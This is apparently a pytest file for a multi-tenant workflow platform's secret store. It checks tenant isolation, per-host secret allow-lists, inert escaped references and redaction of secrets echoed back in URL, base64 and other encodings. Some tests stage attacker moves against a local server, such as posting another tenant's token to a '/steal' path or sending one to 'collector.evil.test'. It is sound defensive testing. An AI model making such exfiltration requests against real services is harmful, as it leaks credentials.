"""Secrets, played by the attacker: another tenant's secret, a secret sent to the wrong host, a
reference smuggled in as escaped data, and a server that echoes the secret back in every encoding.

Real HTTP traffic goes to a local server only (host names are answered by a resolver the test
controls, pointing at 127.0.0.1).
"""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import httpx
import pytest
import pytest_asyncio
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from activities.http import HttpActions
from activities.outbound import OutboundPolicy, build_http_client
from activities.secrets import (
    FileSecretStore,
    Secret,
    SecretsConfigError,
    configure_secret_store,
    encoded_forms,
    store_from_env,
)
from interpreter.actions import ActionRequest, ActionResult
from tests.helpers.http_server import RecordedRequest, RecordingServer, Response

CANARY = 'c4n4ry-" \\ é +/=?&-x'
"""A secret with characters every encoding treats differently."""


@pytest.fixture
def secrets_file(tmp_path: Path) -> Path:
    path = tmp_path / "secrets.json"
    path.write_text(
        json.dumps(
            {
                "acme": {
                    "API_TOKEN": {"value": CANARY, "hosts": ["api.acme.test"]},
                    "ANY_HOST": CANARY + "-any",
                },
                "evil": {"OWN": "evil-own-value"},
            }
        )
    )
    return path


@pytest.fixture
def store(secrets_file: Path) -> Iterator[FileSecretStore]:
    loaded = FileSecretStore.load(secrets_file)
    configure_secret_store(loaded)
    yield loaded
    configure_secret_store(None)


class _Dns:
    async def __call__(self, host: str, port: int) -> list[str]:
        if host.endswith(".test"):
            return ["127.0.0.1"]
        raise OSError(f"no such host {host!r}")


@pytest_asyncio.fixture
async def client() -> AsyncIterator[httpx.AsyncClient]:
    async with build_http_client(OutboundPolicy.loopback(), resolver=_Dns()) as shared:
        yield shared


@pytest.fixture
def server() -> Iterator[RecordingServer]:
    with RecordingServer() as srv:
        yield srv


def _port(server: RecordingServer) -> int:
    return int(server.url.rsplit(":", 1)[1])


async def _call(client: httpx.AsyncClient, tenant: str, data: dict[str, Any]) -> ActionResult:
    request = ActionRequest(step_id="call", idempotency_key="k", input=data, tenant=tenant)
    return await ActivityEnvironment().run(HttpActions(client).http, request)


async def _error(client: httpx.AsyncClient, tenant: str, data: dict[str, Any]) -> ApplicationError:
    with pytest.raises(ApplicationError) as info:
        await _call(client, tenant, data)
    return info.value


async def test_a_tenant_cannot_resolve_another_tenants_secret(
    store: FileSecretStore, client: httpx.AsyncClient, server: RecordingServer
) -> None:
    url = f"http://api.acme.test:{_port(server)}/steal"
    error = await _error(client, "evil", {"method": "POST", "url": url, "json": {"t": "${secret:API_TOKEN}"}})
    assert error.type == "SecretNotFound"
    assert error.non_retryable
    assert "'evil'" in error.message
    assert server.requests() == []
    # The same words as for a name nobody has: the refusal does not tell that acme has one.
    nobody = await _error(client, "evil", {"url": url, "headers": {"x": "${secret:NOBODY_HAS}"}})
    assert nobody.message.replace("NOBODY_HAS", "API_TOKEN") == error.message


async def test_environment_secrets_belong_to_the_default_tenant_only(
    monkeypatch: pytest.MonkeyPatch, client: httpx.AsyncClient, server: RecordingServer
) -> None:
    monkeypatch.setenv("WFA_SECRET_PLATFORM_KEY", "platform-only")
    configure_secret_store(None)
    url = f"http://api.acme.test:{_port(server)}/x"
    error = await _error(client, "acme", {"url": url, "headers": {"k": "${secret:PLATFORM_KEY}"}})
    assert error.type == "SecretNotFound"
    await _call(client, "default", {"url": url, "headers": {"k": "${secret:PLATFORM_KEY}"}})
    assert server.requests()[0].headers["k"] == "platform-only"


async def test_a_secret_goes_only_to_the_hosts_it_names(
    store: FileSecretStore, client: httpx.AsyncClient, server: RecordingServer
) -> None:
    port = _port(server)
    refused = await _error(
        client,
        "acme",
        {"url": f"http://collector.evil.test:{port}/x", "headers": {"a": "${secret:API_TOKEN}"}},
    )
    assert refused.type == "SecretHostRefused"
    assert refused.non_retryable
    assert "collector.evil.test" in refused.message
    assert server.requests() == []
    await _call(
        client,
        "acme",
        {"method": "POST", "url": f"http://api.acme.test:{port}/x", "json": {"a": "${secret:API_TOKEN}"}},
    )
    assert server.requests()[0].json == {"a": CANARY}
    # A secret without hosts may go anywhere the outbound policy allows.
    await _call(client, "acme", {"url": f"http://other.test:{port}/y", "json": {"a": "${secret:ANY_HOST}"}})


async def test_an_escaped_reference_is_sent_as_text_not_resolved(
    store: FileSecretStore, client: httpx.AsyncClient, server: RecordingServer
) -> None:
    url = f"http://api.acme.test:{_port(server)}/x"
    await _call(client, "acme", {"method": "POST", "url": url, "json": {"note": "$${secret:API_TOKEN}"}})
    assert server.requests()[0].json == {"note": "${secret:API_TOKEN}"}
    # A key of data is made inert too (interpreter/inert.py): it goes as its text, never resolved
    # (before, the escaped key was sent).
    keys = {"$${secret:API_TOKEN}": 1, "nested": {"$${secret:X}": [{"$${secret:Y}": 3}]}}
    await _call(client, "acme", {"method": "POST", "url": url, "json": keys})
    assert server.requests()[1].json == {
        "${secret:API_TOKEN}": 1,
        "nested": {"${secret:X}": [{"${secret:Y}": 3}]},
    }


def _echo_everything(request: RecordedRequest) -> Response:
    """Echoes the received token back in every encoding a careless server might use."""
    token = (request.json or {}).get("t", "")
    status = int(request.path.rsplit("/", 1)[1])
    body = {
        "raw": token,
        "url": quote(token, safe=""),
        "url_plus": quote_plus(token),
        "json_text": json.dumps({"t": token}),
        "b64": base64.b64encode(token.encode()).decode(),
        "basic": base64.b64encode(f"user:{token}".encode()).decode(),
        "basic_urlsafe": base64.urlsafe_b64encode(f"us:{token}".encode()).decode(),
    }
    return status, {"X-Echo": quote(token, safe="")}, body


@pytest.mark.parametrize("status", [200, 400, 404, 503])
async def test_a_secret_echoed_back_in_any_encoding_is_redacted(
    store: FileSecretStore, client: httpx.AsyncClient, server: RecordingServer, status: int
) -> None:
    server.route("POST", f"/echo/{status}", _echo_everything)
    url = f"http://api.acme.test:{_port(server)}/echo/{status}"
    data = {"method": "POST", "url": url, "json": {"t": "${secret:API_TOKEN}"}}
    if status == 200:
        outcome: Any = (await _call(client, "acme", data)).model_dump(mode="json")
    else:
        error = await _error(client, "acme", data)
        outcome = {"message": error.message, "details": list(error.details), "type": error.type}
    text = json.dumps(outcome, ensure_ascii=False)
    leaks = [form for form in encoded_forms(CANARY) if form in text]
    assert leaks == [], f"secret leaked as {leaks}"
    assert "[REDACTED:API_TOKEN]" in text


URL_SECRET = "P@ss w0rd!;(x)*'$,~[]^|"
"""A secret whose characters HTTP clients leave as they are in some part of a URL and encode in
others (``@ ! ; ( ) * ' $ ,`` in a path; the space always)."""


async def _echo_request_line(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A careless server: answers 404 with the request's head (its URL as sent) in the page."""
    head = await reader.readuntil(b"\r\n\r\n")
    page = b"Cannot GET " + head
    writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Type: text/plain\r\n")
    writer.write(b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(page) + page)
    await writer.drain()
    writer.close()


@pytest.mark.parametrize(
    "where",
    [
        "/x/${secret:URL_TOKEN}",
        "/x?k=${secret:URL_TOKEN}",
        "/x#${secret:URL_TOKEN}",
    ],
    ids=["path", "query", "fragment"],
)
async def test_a_secret_in_a_url_echoed_back_as_the_client_sent_it_is_redacted(
    client: httpx.AsyncClient, where: str
) -> None:
    """The client percent-encodes a secret written into a URL after its own rules (``@`` stays in a
    path, the space does not); a server echoing the URL echoes that form, which none of the scrubbed
    forms matched (found by an attacker's probe: the 404 page's text reached the step's failure)."""
    configure_secret_store(FileSecretStore({"acme": {"URL_TOKEN": Secret(URL_SECRET, ("api.acme.test",))}}))
    echo = await asyncio.start_server(_echo_request_line, "127.0.0.1", 0)
    try:
        port = echo.sockets[0].getsockname()[1]
        error = await _error(client, "acme", {"url": f"http://api.acme.test:{port}{where}"})
    finally:
        echo.close()
        configure_secret_store(None)
    text = json.dumps({"message": error.message, "details": list(error.details)}, ensure_ascii=False)
    assert "Cannot GET" in text  # the page was read
    assert "[REDACTED:URL_TOKEN]" in text or "#" in where  # (a fragment is never sent)
    for part in ("P@ss", "w0rd", "p@ss"):
        assert part not in text, f"secret leaked: {text[:500]}"


async def test_a_secret_in_a_host_name_is_redacted_lower_cased(client: httpx.AsyncClient) -> None:
    """A secret that names a host goes out lower-cased (a resolver's error quotes it so)."""
    configure_secret_store(FileSecretStore({"acme": {"SUB": Secret("XyZsEcReT42", ("*.crm.test",))}}))
    try:
        error = await _error(client, "acme", {"url": "http://${secret:SUB}.crm.example/x"})
    finally:
        configure_secret_store(None)
    text = json.dumps({"message": error.message, "details": list(error.details)}, ensure_ascii=False)
    assert "xyzsecret42" not in text.lower().replace("[redacted:sub]", ""), text[:500]


def test_base64_inside_a_longer_text_is_found_at_every_alignment() -> None:
    for prefix in ("", "a", "ab", "abc", "user:", "Bearer x:"):
        encoded = base64.b64encode(f"{prefix}{CANARY}tail".encode()).decode()
        assert any(form in encoded for form in encoded_forms(CANARY)), prefix


def test_secrets_file_errors_name_the_problem_never_a_value(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text('{"acme": {"X": {"value": "hunter2", "hosts": "not-a-list"}}}')
    with pytest.raises(SecretsConfigError, match="'hosts' must be a list") as info:
        FileSecretStore.load(path)
    assert "hunter2" not in str(info.value)
    path.write_text("{not json")
    with pytest.raises(SecretsConfigError, match="not JSON"):
        FileSecretStore.load(path)
    with pytest.raises(SecretsConfigError, match="cannot read"):
        store_from_env({"WFA_SECRETS_FILE": str(tmp_path / "missing.json")})
    assert "hunter2" not in repr(Secret("hunter2"))


async def test_a_header_that_http_cannot_carry_is_a_clear_input_error(
    store: FileSecretStore, client: httpx.AsyncClient, server: RecordingServer
) -> None:
    url = f"http://api.acme.test:{_port(server)}/x"
    error = await _error(client, "acme", {"url": url, "headers": {"X-Token": "${secret:API_TOKEN}"}})
    assert error.type == "InvalidActionInput"
    assert error.non_retryable
    assert "X-Token" in error.message
    assert not [form for form in encoded_forms(CANARY) if form in error.message]
    assert server.requests() == []
